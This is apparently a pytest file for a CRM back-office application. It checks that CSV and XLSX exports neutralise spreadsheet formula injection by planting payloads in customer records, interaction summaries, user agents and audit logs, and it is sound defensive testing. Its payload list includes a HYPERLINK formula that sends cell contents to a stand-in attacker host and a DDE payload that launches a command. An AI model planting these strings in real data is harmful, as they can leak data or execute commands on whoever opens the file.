"""Spreadsheet formulas planted in customer data never run where an export is opened (OWASP
CSV injection): in CSV a dangerous cell starts with a quote, in XLSX no cell is a formula and a
dangerous text is a quote-prefixed string; negative amounts stay numbers.

The payloads sit in a customer name, an interaction summary, a custom field value, a logged user
agent and an operation-log detail; they are exported as CSV and XLSX through the real routes by
the roles that export them (relationship manager, senior manager, auditor)."""
from __future__ import annotations

import datetime as dt
import io
import uuid

import pytest
from openpyxl import load_workbook
from sqlalchemy import delete, select

from backoffice.exports import formula_like, neutralise
from backoffice.extensions import db
from tests.customers.test_exports import read_csv
from tests.support.web import csrf_token
from tests.support.world import make_prc_id

PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"点我")', "+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)", "\t=1+1", "\r=1+1", " =1+1", "\u3000=1+1"]
UNSCOPED = {"crm_unscoped": True}


def test_the_rule():
    for payload in PAYLOADS:
        assert formula_like(payload) and neutralise(payload) == "'" + payload
    for number in ("-12.50", "1,234,567.89", "+8613800000000", "0", "-1"):
        assert not formula_like(number) and neutralise(number) == number
    assert neutralise("'quoted") == "''quoted"  # one leading quote always comes off
    assert neutralise("客户 = 甲") == "客户 = 甲" and neutralise(None) is None
    assert neutralise(-3) == -3 and formula_like("+86 138 0000 0000")


CONTROL = "\t\r\n"


@pytest.fixture
def planted(app, world):
    """A customer of rm1 per payload (name and a text custom field holding it, a decimal custom
    field of -12.50, an interaction whose summary is the payload); all removed afterwards, with
    the field definitions and rm1's personal list layout that shows summaries."""
    from models import Customer, Interaction
    from models.fields import CustomFieldDefinition, FieldSet

    marker = f"FX{uuid.uuid4().hex[:6]}"
    key = f"note_{marker.lower()}"
    made: dict = {"customers": [], "interactions": []}
    with app.app_context():
        definitions = [CustomFieldDefinition(entity="customer", key=name, label_zh=name,
                                             label_en=name, field_type=kind)
                       for name, kind in ((key, "text"), (f"adj_{key}", "decimal"))]
        db.session.add_all(definitions)
        db.session.flush()
        made["definitions"] = [d.id for d in definitions]
        for n, payload in enumerate(PAYLOADS):
            birth = dt.date(1985, 1 + n, 3)
            customer = Customer(
                # Names refuse control characters (models.validators): a name carries the
                # payload from its first printable character on (still a formula start).
                customer_no=f"{marker}{n}", name=f"{payload.lstrip(CONTROL)}{marker}",
                customer_type="individual", id_type="PRC_ID",
                id_number=make_prc_id(birth, 700 + n), branch_id=world.branches["B1"],
                owner_id=world.staff["rm1"], status="active", risk_tolerance="C3",
                tier="mass", custom_fields={key: f"{payload}{marker}", f"adj_{key}": "-12.50"})
            db.session.add(customer)
            db.session.flush()
            interaction = Interaction(customer_id=customer.id, staff_id=world.staff["rm1"],
                                      occurred_at=dt.datetime(2026, 1, 1, 1, n),
                                      channel="phone", direction="outbound", topic="inquiry",
                                      summary=f"{payload}{marker}", custom_fields={})
            db.session.add(interaction)
            db.session.flush()
            made["customers"].append(customer.id)
            made["interactions"].append(interaction.id)
        db.session.commit()
    yield {"marker": marker, "key": key}
    with app.app_context():
        db.session.remove()
        for model, name in ((Interaction, "interactions"), (Customer, "customers")):
            db.session.execute(delete(model).where(model.id.in_(made[name]))
                               .execution_options(**UNSCOPED))
        db.session.execute(delete(FieldSet).where(FieldSet.name == marker))
        db.session.execute(delete(CustomFieldDefinition).where(
            CustomFieldDefinition.id.in_(made["definitions"])))
        db.session.commit()


def cells_of(response, fmt: str) -> list[list]:
    """Every row of an export: text for CSV, openpyxl cells for XLSX."""
    assert response.status_code == 200, response.get_data(as_text=True)[-500:]
    if fmt == "csv":
        return read_csv(response)
    sheet = load_workbook(io.BytesIO(response.data)).active
    return [list(row) for row in sheet.iter_rows()]


def assert_inert(rows, fmt: str, marker: str, expected: int) -> None:
    """No cell can run: CSV texts that look like a formula carry the quote, XLSX has no formula
    cell and its dangerous texts are quote-prefixed strings; every payload is there, intact."""
    found = 0
    for row in rows:
        for cell in row:
            if fmt == "csv":
                assert not formula_like(cell) or cell.startswith("'"), repr(cell)
                text = cell[1:] if cell.startswith("'") else cell
            else:
                assert cell.data_type != "f", repr(cell.value)
                text = cell.value if isinstance(cell.value, str) else ""
                if formula_like(text):
                    assert cell.data_type == "s" and cell.quotePrefix, repr(text)
            # a planted value (leading blanks may have been trimmed on the way in, and XLSX
            # stores a carriage return as a line feed): still formula-like, still inert
            if marker in text and formula_like(text):
                found += 1
                if fmt == "csv":
                    assert cell.startswith("'")
    assert found >= expected


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("username", ["rm1", "senior"])
def test_customer_names_and_custom_fields(app, world, client_as, planted, fmt, username):
    marker = planted["marker"]
    response = client_as(username).get(f"/customers/export/{fmt}?_flt_2_name={marker}")
    rows = cells_of(response, fmt)
    assert len(rows) == 2 + len(PAYLOADS)
    assert_inert(rows, fmt, marker, expected=2 * len(PAYLOADS))  # name and custom field


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_interaction_summaries_in_a_personal_layout(app, world, client_as, planted, fmt):
    from models.fields import FieldSet

    marker = planted["marker"]
    rm1 = client_as("rm1")
    token = csrf_token(rm1, "/interactions/list/")
    saved = rm1.post("/interactions/save-view", data={
        "csrf_token": token, "name": marker, "columns": "occurred_at,customer,summary"})
    assert saved.status_code == 302
    with app.app_context():
        set_id = db.session.scalar(select(FieldSet.id).where(FieldSet.name == marker))
    rows = cells_of(rm1.get(f"/interactions/export/{fmt}?_fs={set_id}"), fmt)
    assert_inert(rows, fmt, marker, expected=len(PAYLOADS))


def test_negative_amounts_stay_numbers(app, world, client_as, planted):
    """A negative decimal is no formula: as written in CSV, a numeric cell in XLSX."""
    marker = planted["marker"]
    rm1 = client_as("rm1")
    rows = read_csv(rm1.get(f"/customers/export/csv?_flt_2_name={marker}"))
    assert sum(row.count("-12.50") for row in rows) == len(PAYLOADS)
    rows = cells_of(rm1.get(f"/customers/export/xlsx?_flt_2_name={marker}"), "xlsx")
    amounts = [cell for row in rows for cell in row
               if cell.data_type == "n" and cell.value == -12.5]
    assert len(amounts) == len(PAYLOADS)
    assert all(cell.number_format == "#,##0.00" for cell in amounts)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_operation_log_user_agent_and_detail(app, world, client_as, fmt):
    """A user agent is whatever the client sends; a detail holds what was logged."""
    from backoffice.audit.log import record

    marker = f"UA{uuid.uuid4().hex[:6]}"
    rm1 = client_as("rm1")
    sent = [p for p in PAYLOADS if "\r" not in p]  # a header cannot hold a line break
    for payload in sent:
        rm1.get("/customers/export/csv", headers={"User-Agent": f"{payload}{marker}"})
    with app.test_request_context():
        record("formula_test", entity=f"=HYPERLINK(\"x\"){marker}", entity_id=f"-2+3{marker}",
               detail=f"=1+1{marker}", actor="rm1")
    response = client_as("auditor").get(f"/auditlog/export/{fmt}?_flt_3_actor_username=rm1")
    rows = cells_of(response, fmt)
    assert_inert(rows, fmt, marker, expected=len(sent) + 2)


def test_error_report_cells(app):
    from backoffice.imports.report import ErrorReport

    report = ErrorReport(headers=["name", "amount"])
    for n, payload in enumerate(PAYLOADS, start=2):
        report.add(n, {"name": payload, "amount": "-12.50"}, [("name", payload)])
    with app.test_request_context():
        data = report.to_xlsx()
    for sheet in load_workbook(io.BytesIO(data)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                if isinstance(cell.value, str) and formula_like(cell.value):
                    assert cell.quotePrefix
    first = load_workbook(io.BytesIO(data)).worksheets[0]
    assert first.cell(row=2, column=2).value == PAYLOADS[0]  # the value as it was
